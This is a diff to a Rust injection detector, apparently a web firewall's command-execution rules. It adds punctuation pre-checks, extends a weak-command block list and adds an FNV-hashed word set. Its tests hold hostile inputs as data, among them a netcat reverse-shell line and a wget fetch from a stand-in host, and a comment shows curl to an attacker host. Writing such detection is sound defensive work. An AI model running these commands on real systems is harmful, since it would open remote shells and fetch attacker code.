@@ -812,6 +812,9 @@ const WEAK_COMMANDS: &[&str] = &[
     "emacs",
     "screen",
     "curl",
+    "command",
+    "builtin",
+    "unbuffer",
 ];
 
 /// PowerShell and Windows forms that mean command execution anywhere.
@@ -1111,8 +1114,8 @@ fn build(pats: &[&str]) -> AhoCorasick {
 
 pub(crate) struct Rules {
     pub(crate) lexicon: crate::lexicon::Lexicon,
-    commands: std::collections::HashSet<&'static [u8]>,
-    weak: std::collections::HashSet<&'static [u8]>,
+    commands: WordSet,
+    weak: WordSet,
     php_functions: AhoCorasick,
     php_markers: AhoCorasick,
     php_wrappers: AhoCorasick,
@@ -1130,13 +1133,10 @@ impl Rules {
                 (Family::Sql, crate::sqli::SQL_ONLY_WORDS),
                 (Family::File, SENSITIVE_FILES),
                 (Family::Windows, WINDOWS_MARKERS),
+                (Family::Js, crate::xss::SINKS),
             ]),
-            commands: STRONG_COMMANDS
-                .iter()
-                .chain(WEAK_COMMANDS)
-                .map(|c| c.as_bytes())
-                .collect(),
-            weak: WEAK_COMMANDS.iter().map(|c| c.as_bytes()).collect(),
+            commands: WordSet::new(STRONG_COMMANDS.iter().chain(WEAK_COMMANDS)),
+            weak: WordSet::new(WEAK_COMMANDS.iter()),
             php_functions: build(PHP_FUNCTIONS),
             php_markers: build(PHP_MARKERS),
             php_wrappers: build(PHP_WRAPPERS),
@@ -1246,15 +1246,18 @@ impl Rules {
     }
 
     /// Remote command execution. `s` is canonical, lower-cased.
+    /// `cs`: the value's punctuation summary.
     pub(crate) fn rce(
         &self,
         s: &[u8],
         hits: Option<&[Hit]>,
+        cs: crate::chars::Chars,
         tmp: &mut Vec<u8>,
     ) -> Option<&'static str> {
+        use crate::chars::*;
         let f = crate::find;
         // Shellshock.
-        if f(s, b"() {").is_some() || f(s, b"(){").is_some() {
+        if cs.any(PAREN) && (f(s, b"() {").is_some() || f(s, b"(){").is_some()) {
             return Some("rce-shellshock");
         }
         let mut own = Vec::new();
@@ -1272,6 +1275,9 @@ impl Rules {
             }
         }
         // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}.
+        if !cs.any(BACKSLASH | QUOTE | DOLLAR) {
+            return self.rce_unquoted(s, cs);
+        }
         tmp.clear();
         let mut i = 0;
         while i < s.len() {
@@ -1320,7 +1326,15 @@ impl Rules {
             tmp.push(c);
             i += 1;
         }
-        let t = &tmp[..];
+        let t = std::mem::take(tmp);
+        let r = self.rce_unquoted(&t, crate::chars::summary(&t));
+        *tmp = t;
+        r
+    }
+
+    fn rce_unquoted(&self, t: &[u8], cs: crate::chars::Chars) -> Option<&'static str> {
+        use crate::chars::*;
+        let f = crate::find;
         for v in [
             &b"${ifs"[..],
             b"$ifs",
@@ -1333,20 +1347,18 @@ impl Rules {
                 return Some("rce-shell-variable");
             }
         }
-        if let Some(r) = batch(t) {
-            return Some(r);
+        if cs.any(PERCENT | EQ | SPACE) {
+            if let Some(r) = batch(t) {
+                return Some(r);
+            }
         }
-        if let Some(r) = mail_protocol(t) {
-            return Some(r);
+        if cs.any(NEWLINE) {
+            if let Some(r) = mail_protocol(t) {
+                return Some(r);
+            }
         }
         // Absolute paths to binaries: /bin/sh, /usr/bin/id, with globs: /bin/ca?
-        for dir in [
-            &b"/bin/"[..],
-            b"/sbin/",
-            b"/usr/bin/",
-            b"/usr/sbin/",
-            b"/usr/local/bin/",
-        ] {
+        for dir in if cs.any(SLASH) { &BIN_DIRS[..] } else { &[] } {
             if let Some(p) = f(t, dir) {
                 let after = &t[p + dir.len()..];
                 let before = p.checked_sub(1).map(|i| t[i]);
@@ -1393,9 +1405,24 @@ impl Rules {
                 return Some("rce-command");
             }
         }
-        if self.command_at(start, false) == Some(true)
-            || self.prefixed_command(start)
-            || self.technical_command(start)
+        // One lookup decides whether the value starts with a command at all.
+        let first_end = start
+            .iter()
+            .position(|&c| {
+                !(c.is_ascii_alphanumeric()
+                    || matches!(c, b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
+            })
+            .unwrap_or(start.len());
+        let starts_with_command = first_end > 0
+            && self
+                .command_name(start[..first_end].trim_ascii_end())
+                .is_some()
+            || start[..first_end].ends_with(b".")
+                && self.command_name(&start[..first_end - 1]).is_some();
+        if starts_with_command
+            && (self.command_at(start, false) == Some(true)
+                || self.prefixed_command(start)
+                || self.technical_command(start))
         {
             return Some("rce-command");
         }
@@ -1406,6 +1433,9 @@ impl Rules {
             if rest.first().is_some_and(|c| c.is_ascii_alphabetic()) {
                 return Some("rce-binary-path");
             }
+        }
+        if !cs.any(SEMI | NEWLINE | BACKTICK | PIPE | AMP | DOLLAR | LT | GT) {
+            return None;
         }
         while at < t.len() {
             let c = t[at];
@@ -1460,9 +1490,7 @@ impl Rules {
         while word.last() == Some(&b'.') {
             word = &word[..word.len() - 1];
         }
-        let Some(word) = self.command_name(word) else {
-            return None;
-        };
+        let word = self.command_name(word)?;
         let weak = self.weak.contains(word);
         let rest = &s[end..];
         let arg = rest.trim_ascii_start();
@@ -1553,11 +1581,6 @@ impl Rules {
             return Some(word);
         }
         None
-    }
-
-    /// A one-word value: a technical command alone (`visudo`, `whoami`).
-    pub(crate) fn rce_word(&self, s: &[u8]) -> Option<&'static str> {
-        self.technical_command(s).then_some("rce-command")
     }
 
     /// A value that is a command line of a tool no prose names (`visudo`, `nmap -sS x`,
@@ -2200,6 +2223,41 @@ fn php_directive(s: &[u8]) -> bool {
         || DIRECTIVES.contains(&key)
 }
 
+/// A word list with a cheap hash (FNV-1a; the words are short and fixed, no attacker controls
+/// the table).
+struct WordSet(std::collections::HashSet<&'static [u8], std::hash::BuildHasherDefault<Fnv>>);
+
+#[derive(Default)]
+struct Fnv(u64);
+
+impl std::hash::Hasher for Fnv {
+    fn finish(&self) -> u64 {
+        self.0
+    }
+    fn write(&mut self, bytes: &[u8]) {
+        let mut h = if self.0 == 0 {
+            0xcbf2_9ce4_8422_2325
+        } else {
+            self.0
+        };
+        for &b in bytes {
+            h ^= b as u64;
+            h = h.wrapping_mul(0x0100_0000_01b3);
+        }
+        self.0 = h;
+    }
+}
+
+impl WordSet {
+    fn new<'a>(words: impl Iterator<Item = &'a &'static str>) -> WordSet {
+        WordSet(words.map(|w| w.as_bytes()).collect())
+    }
+
+    fn contains(&self, w: &[u8]) -> bool {
+        w.len() <= 24 && self.0.contains(w)
+    }
+}
+
 /// Whether the first word of `arg` is a URL, a host name or an address (`curl evil.com`).
 fn looks_like_host(arg: &[u8]) -> bool {
     let w = &arg[..arg
@@ -2220,6 +2278,14 @@ fn looks_like_host(arg: &[u8]) -> bool {
                     || l.iter().all(|c| c.is_ascii_digit()))
         })
 }
+
+const BIN_DIRS: [&[u8]; 5] = [
+    b"/bin/",
+    b"/sbin/",
+    b"/usr/bin/",
+    b"/usr/sbin/",
+    b"/usr/local/bin/",
+];
 
 /// The offset of the bracket closing the one `s` starts with.
 fn matching(s: &[u8]) -> Option<usize> {
@@ -2405,7 +2471,11 @@ mod tests {
             "; nc -e /bin/sh 10.0.0.1 4444",
             "wget http://evil/x",
         ] {
-            assert!(r.rce(&l(a), None, &mut t).is_some(), "missed: {a}");
+            assert!(
+                r.rce(&l(a), None, crate::chars::summary(&l(a)), &mut t)
+                    .is_some(),
+                "missed: {a}"
+            );
         }
         for b in [
             "Tom & Jerry",
@@ -2420,7 +2490,11 @@ mod tests {
             "R&D department; head office",
             "Q&A",
         ] {
-            assert_eq!(r.rce(&l(b), None, &mut t), None, "false positive: {b}");
+            assert_eq!(
+                r.rce(&l(b), None, crate::chars::summary(&l(b)), &mut t),
+                None,
+                "false positive: {b}"
+            );
         }
     }
 
